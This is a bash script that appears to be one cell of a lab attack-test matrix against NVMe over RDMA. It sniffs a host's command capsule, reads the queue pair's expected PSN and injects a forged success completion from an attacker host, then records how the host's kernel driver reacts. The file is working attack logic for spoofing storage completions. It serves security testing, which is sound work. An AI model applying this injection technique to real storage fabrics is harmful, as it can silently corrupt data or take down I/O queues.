# SPDX-License-Identifier: MIT
# NeVerMore 5.2.2 (spoof-response): the attacker on host 3 reads one command
# capsule the host sends to an I/O queue off the bridge (its command id is
# cleartext, bytes 2-3 of the SQE) and forges a completion (16-byte CQE,
# status success) for that command id into the host's I/O queue QP, as if
# from the target, at the PSN the host's QP expects (rdma(8), as the other
# cells read it). The outcome is what the host's kernel did with it: complete
# the command early, or find no such command in flight and tear the queue
# down (error recovery, reconnect), both logged by nvme-rdma.
. "$(dirname "${BASH_SOURCE[0]}")/common.bash"
. "$(dirname "${BASH_SOURCE[0]}")/nvmf.bash"

# _sprs_cid: the command id of a capsule the host sends now (SEND First or
# Only, host 2 to host 1, to AIM's peer QP), "0x...." ; returns 1 if none in 5 s.
_sprs_cid() {
	local hex
	timeout 5 tcpdump -i fabbr -nn -x -c 1 \
		"udp dst port 4791 and src host $VICTIM_CLIENT_IP and dst host $VICTIM_SERVER_IP and (udp[8] == 0 or udp[8] == 4) and (udp[12:4] & 0xffffff) == $1" \
		>"$CELL/capsule.txt" 2>/dev/null
	hex=$(awk '/^[[:space:]]*0x[0-9a-f]+:/ { for (i = 2; i <= NF; i++) printf "%s", $i }' "$CELL/capsule.txt")
	# IPv4 20 + UDP 8 + BTH 12 bytes, then the SQE: the command id is its bytes 2-3, little-endian.
	[ ${#hex} -ge 88 ] || return 1
	printf '0x%s%s' "${hex:86:2}" "${hex:84:2}"
}

# _sprs_try T0: one forged completion to AIM's QP (the PSN read again, a
# command id read off the wire), then up to 10 s for the host's line since
# uptime T0 (the first try's: a completion an earlier try slipped in may
# be noticed only when its command times out). Sets cid and line; returns 1
# if the host logged nothing.
_sprs_try() {
	local tq
	tq=$(rdma -d res show qp link rxe2/1 lqpn $((AIM_QPN)) 2>/dev/null | sed -n 's/.* rqpn \([0-9]*\) .*/\1/p')
	if ! cid=$(_sprs_cid "${tq:-0}"); then
		# An idle queue carries no capsule to read: take the other direction's busiest queue's.
		cid=$(_sprs_cid "$(_cell_qps rxe1 | tail -n 1 | cut -d' ' -f1)") || cid=0x0001
	fi
	# The PSN moved on while the capsule was read: aim again, at the same QP.
	AIM_PSN=$(_cell_qps rxe2 | awk -v q=$((AIM_QPN)) '$1 == q {print $2}')
	[ "${AIM_SWEEP#*:}" = 1 ] && AIM_SWEEP=$AIM_PSN:1 || AIM_SWEEP=$AIM_PSN:20000
	fabric on 3 "$ATK" spoof-response --dst "$VICTIM_CLIENT_IP" --src "$VICTIM_SERVER_IP" --qpn "$AIM_QPN" \
		--psn-sweep "$AIM_SWEEP" --cid "$cid" --iface fab3 --sport 4242 --json >"$CELL/attack.json" 2>"$CELL/attack.err"
	echo "spoof-response exit $? ($AIM_HOW: host qpn $AIM_QPN psn $AIM_PSN, cid $cid)" >&2
	for _ in $(seq 1 20); do line=$(cell_nvmf_host_line "$1") && return 0; sleep 0.5; done
	line=''
	return 1
}

cell_spoof_response() {
	local v=$1 cid line fio tries t0 ended
	cell_nvmf_only spoof-response "$v" && return
	# The host's I/O runs until the cell ends (victim_stop): a completion forged
	# after its last command finds nothing in flight and is dropped unlogged.
	CELL_NVMF_SECONDS=${CELL_NVMF_SECONDS:-300} cell_nvmf_start spoof-response || return
	# The host's I/O queue QP whose expected PSN the forged completion takes.
	if ! cell_nvmf_aim rxe2; then
		matrix_result spoof-response "$v" error "" "no I/O queue QP on rxe2"
		victim_stop
		return
	fi
	# A sweep behind a busy queue's PSN lands nothing, and a completion that
	# lands on a command in flight may complete it silently (the host notices
	# only when the real one finds no command, or the command times out):
	# up to 5 tries, each judged on what the host logged since the first.
	read -r t0 _ </proc/uptime
	for tries in 1 2 3 4 5; do
		_sprs_try "$t0" && break
		kill -0 "$VICTIM_CLIENT_PID" 2>/dev/null || break
	done
	kill -0 "$VICTIM_CLIENT_PID" 2>/dev/null && ended='' || ended="; the host's I/O had ended"
	victim_attack_done
	fio=$(victim_grep "$VICTIM_CLIENT_LOG" 'verify|[Ee]rror|err=') || fio=''
	victim_stop
	if [ -n "$line" ]; then
		matrix_result spoof-response "$v" succeeded "" \
			"forged CQE (cid $cid, success) to host QP $AIM_QPN ($AIM_HOW, try $tries) taken by nvme-rdma: $line${fio:+; fio: ${fio:0:60}}"
	else
		matrix_result spoof-response "$v" error "" \
			"the host logged nothing after $tries forged CQE(s) (last cid $cid) to QP $AIM_QPN ($AIM_HOW)$ended${fio:+; fio: ${fio:0:60}}"
	fi
}
